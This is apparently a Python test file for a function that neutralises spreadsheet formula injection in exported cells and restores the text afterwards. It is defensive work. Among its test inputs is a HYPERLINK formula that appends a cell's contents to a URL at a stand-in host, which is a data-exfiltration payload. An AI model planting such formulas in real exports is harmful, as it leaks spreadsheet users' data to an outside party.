import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from closeknit.algorithms import cells

RISKY_LETTERS = st.text(alphabet="=+-@\t\r\n '\"“;＝－\u200babc1")


@given(st.text() | RISKY_LETTERS)
def test_every_text_comes_back_as_it_was(text):
    assert cells.restore(cells.neutralise(text)) == text


@given(st.text() | RISKY_LETTERS, st.integers(1, 5))
def test_every_text_comes_back_from_any_number_of_exports(text, times):
    out = text
    for _ in range(times):
        out = cells.neutralise(out)
    for _ in range(times):
        out = cells.restore(out)
    assert out == text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(1+1)",
        '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        ";=1+1",
        '"=1+1',
        "'=1+1",
        "“=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "-10% off",
        "=)",
    ],
)
def test_what_a_spreadsheet_might_run_becomes_text(text):
    assert cells.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Knit", "020 7946 0000", "'t Hoekje", "a=b", "10-12", "%0A=1+1"])
def test_plain_text_stays_as_it_is(text):
    assert cells.neutralise(text) == text
    assert cells.restore(text) == text


def test_a_telephone_number_from_somebody_elses_spreadsheet_loses_only_its_mark():
    assert cells.restore("'+44 20 7946 0000") == "+44 20 7946 0000"


def test_a_million_blanks_take_no_time():
    started = time.perf_counter()
    cells.neutralise(" " * 1_000_000)
    assert time.perf_counter() - started < 1
